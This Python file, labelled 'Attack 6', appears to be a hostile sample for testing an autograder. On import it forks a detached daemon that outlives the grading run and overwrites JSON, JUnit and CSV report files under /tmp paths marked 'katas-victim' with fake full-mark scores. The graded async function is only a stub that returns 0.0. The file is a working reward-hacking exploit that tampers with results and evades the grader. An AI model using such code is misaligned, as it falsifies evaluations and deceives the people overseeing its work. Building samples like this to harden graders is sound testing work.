# ruff: noqa
"""Attack 6: a detached process waits for grading to end, then rewrites the reports
(--json, --junit, the gradebook CSV) to full marks (only paths marked katas-victim)."""

import os
import subprocess
import sys

DAEMON = r"""
import os, time
end = time.time() + 25
while time.time() < end:
    time.sleep(0.5)
    for root, dirs, files in os.walk("/tmp"):
        if root.count(os.sep) > 7:
            dirs[:] = []
        if "katas-victim" not in root:
            continue
        for name in files:
            if name.endswith((".json", ".xml", ".csv")):
                try:
                    with open(os.path.join(root, name), "w") as handle:
                        handle.write('{"score": 500, "status": "pass"}')
                except OSError:
                    pass
"""

if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", DAEMON, "katas-hostile-daemon"])


async def two_sleepers(a: float = 10.0, b: float = 5.0) -> float:
    return 0.0
